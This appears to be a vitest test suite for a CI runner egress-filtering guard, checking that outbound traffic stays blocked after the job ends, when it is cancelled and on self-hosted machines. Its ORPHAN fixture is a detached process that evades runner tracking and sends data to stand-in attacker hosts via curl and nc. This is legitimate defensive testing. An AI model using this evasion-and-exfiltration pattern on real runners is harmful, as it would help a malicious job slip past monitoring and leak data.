import { describe, expect, test } from 'vitest';
import { nodeAction } from '../runner/fixtures/node-action.ts';
import { type Job, reached, runJob, startJob, transcript, WORLD } from '../runner/runner.ts';
import { TRACES } from './fixtures/traces.ts';
import { pidsOf, statusOf } from './guard-lab.ts';

/** Waits for the end of Runner.Worker, by a process that nobody of the runner finds, then sends what the job could not. */
const ORPHAN = `cat >orphan.sh <<'E'
echo $$ >orphan-lives
while grep -q Runner.Worker /proc/$WORKER/comm 2>/dev/null; do sleep 0.05; done
sleep 0.3
curl -sS -m 3 https://evil.test/after-post
curl -sSk -m 3 https://${WORLD.evil}/after-post
echo data | nc -w1 ${WORLD.evil} 9999
echo data | nc -u -w1 ${WORLD.evil} 9999
getent ahosts after-post.evil.test
curl -sS -m 60 https://ok.test/after-post
echo $? >orphan-done
sleep 60
E
WORKER=$PPID RUNNER_TRACKING_ID= setsid -f bash orphan.sh >/dev/null 2>&1 </dev/null
while [ ! -e orphan-lives ]; do sleep 0.05; done`;

const processes = (job: Job): string =>
  job.machine.inside([
    'sh',
    '-c',
    "for pid in $(find /sys/fs/cgroup -name cgroup.procs -exec cat {} +); do tr '\\0' ' ' </proc/$pid/cmdline; echo; done",
  ]).stdout;

describe('on a hosted machine', () => {
  test('an orphan that waits until post has run is still filtered, and still told in the log', async () => {
    const job = await startJob({ action: { with: { policy: 'ok.test' } }, steps: [{ name: 'orphan', run: ORPHAN }] });
    try {
      const result = await job.completed();
      expect(result.conclusion, transcript(result)).toBe('success');
      expect(await job.workspaceText('orphan-done')).toBe('0\n');
      const after = job.result();
      expect(after.seen).toContainEqual(expect.objectContaining({ url: '/after-post', host: 'ok.test' }));
      expect(reached(after, WORLD.evil)).toEqual([]);
      expect(after.seen.filter(({ kind, name }) => kind === 'dns' && name?.includes('after-post'))).toEqual([]);
      expect(after.log).toContainEqual(expect.objectContaining({ name: 'after-post.evil.test', policy: 'deny', step: 'build.__run' }));
    } finally {
      await job.stop();
    }
  });

  test('the filter outlives the job, and sudo stays locked', async () => {
    const job = await startJob({ action: { with: { policy: 'ok.test' } }, steps: [] });
    try {
      await job.completed();
      await new Promise((done) => setTimeout(done, 1500));
      expect(job.machine.inside(['sh', '-c', TRACES]).stdout).toMatch(/guard\.m?js/);
      job.machine.inside(['curl', '-sSk', '-m', '3', `https://${WORLD.evil}/`]);
      expect(job.machine.inside(['sudo', '-n', 'id'], { user: 'runner' }).status).not.toBe(0);
      expect(reached(job.lab.since({ seen: 0, packets: 0 }), WORLD.evil)).toEqual([]);
    } finally {
      await job.stop();
    }
  });
});

describe('on a self-hosted machine', () => {
  test('everything is taken down when Runner.Worker exits, and what the job left behind is killed first', async () => {
    const job = await startJob({
      hosted: false,
      action: { with: { policy: 'ok.test' } },
      steps: [
        { name: 'orphan', run: ORPHAN },
        { name: 'denied', run: 'curl -sS -m 60 https://evil.test/ || true; sudo -n id || true' },
      ],
    });
    try {
      const result = await job.completed();
      expect(result.conclusion, transcript(result)).toBe('success');
      expect(result.page).toContain('evil.test');
      expect(result.step('denied').log).not.toContain('uid=0');
      await job.machine
        .until('the end of the filter', () => (job.machine.inside(['sh', '-c', TRACES]).stdout === '' ? true : undefined), 20_000)
        .catch(() => {});
      expect(job.machine.inside(['sh', '-c', TRACES]).stdout).toBe('');
      expect(processes(job)).not.toMatch(/orphan\.sh/);
      // Nothing was sent between the end of the job and the end of the filter.
      expect(reached(job.lab.since({ seen: 0, packets: 0 }), WORLD.evil)).toEqual([]);
      expect(job.machine.inside(['sudo', '-n', 'id', '-un'], { user: 'runner' }).stdout).toBe('root\n');
      expect(job.machine.inside(['curl', '-sS', '-m', '5', '--cacert', '/run/harness/world.crt', 'https://evil.test/']).stdout).toMatch(
        /^hello/,
      );
    } finally {
      await job.stop();
    }
  });
});

describe('a cancelled job', () => {
  test('post reports, the job stays cancelled, the filter stays up', async () => {
    const job = await startJob({
      action: { with: { policy: 'ok.test' } },
      cancelMs: { sigint: 500, sigterm: 500 },
      actions: { 'acme/post@v1': nodeAction({ post: "console.log('post of another')" }) },
      steps: [
        { uses: 'acme/post@v1' },
        { name: 'long', run: 'curl -sS -m 60 https://evil.test/ || true; touch running; sleep 60' },
        { name: 'never', run: 'true' },
      ],
    });
    try {
      await job.workspaceFile('running');
      job.cancel();
      const result = await job.completed();
      expect(result.conclusion, transcript(result)).toBe('cancelled');
      expect(result.step('never').conclusion).toBe('skipped');
      expect(result.page).toContain('evil.test');
      expect(result.artifacts.map(({ name }) => name)).toEqual(['egress-connections']);
      job.machine.inside(['curl', '-sSk', '-m', '3', `https://${WORLD.evil}/`]);
      expect(reached(job.lab.since({ seen: 0, packets: 0 }), WORLD.evil)).toEqual([]);
    } finally {
      await job.stop();
    }
  });

  test('a cancel in the middle of pre leaves either no filter or a whole one', async () => {
    const job = await startJob({
      action: { with: { policy: 'ok.test' } },
      cancelMs: { sigint: 2000, sigterm: 1000 },
      // A cancellation that comes late finds a job that goes on.
      steps: [{ run: 'sleep 60' }],
    });
    const look = (): string => job.machine.inside(['sh', '-c', TRACES]).stdout;
    /** What was begun is either complete or undone: the runner waits for neither. */
    const settled = (): true | undefined => {
      if (look() === '') return true;
      return pidsOf(job.machine, /guard\.m?js launch/).length === 0 && answers(job) ? true : undefined;
    };
    try {
      await job.machine.until('a start', () => pidsOf(job.machine, /guard\.m?js/)[0]);
      job.cancel();
      const result = await job.completed();
      expect(result.conclusion, transcript(result)).toBe('cancelled');
      await job.machine.until('a filter or none', settled);
      const traces = look();
      job.machine.inside(['curl', '-sSk', '-m', '3', `https://${WORLD.evil}/`]);
      const isOpen = reached(job.lab.since({ seen: 0, packets: 0 }), WORLD.evil).length > 0;
      expect(isOpen, traces).toBe(traces === '');
    } finally {
      await job.stop();
    }
  });
});

function answers(job: Job): boolean {
  try {
    return statusOf(job.machine).status === 'ok';
  } catch {
    // Nobody is at the socket yet, or any more.
    return false;
  }
}

test('a step that fails: the job fails as ever, and post reports', async () => {
  const job = await runJob({
    action: { with: { policy: 'ok.test' } },
    steps: [
      { name: 'fails', run: 'curl -sS -m 60 --fail https://evil.test/' },
      { name: 'skipped', run: 'true' },
    ],
  });
  expect(job.conclusion).toBe('failure');
  expect(job.step('skipped').conclusion).toBe('skipped');
  expect(job.step(/^Post owner/).conclusion, transcript(job)).toBe('success');
  expect(job.page).toContain('evil.test');
});
